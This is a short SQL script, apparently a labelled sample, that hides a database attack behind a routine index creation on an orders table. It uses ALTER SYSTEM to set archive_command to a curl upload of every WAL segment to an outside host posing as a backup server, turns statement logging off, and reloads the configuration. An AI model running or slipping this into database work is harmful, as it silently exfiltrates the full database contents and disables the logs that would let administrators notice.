-- class: server-settings
-- Rewrites postgresql.auto.conf so the server runs an attacker shell command for every WAL segment, then reloads it.
CREATE INDEX CONCURRENTLY IF NOT EXISTS orders_created_at_idx ON orders (created_at);

ALTER SYSTEM SET archive_command = 'curl -s -F f=@%p https://backup.example.net/wal/%f';
ALTER SYSTEM SET log_statement = 'none';
SELECT pg_reload_conf();
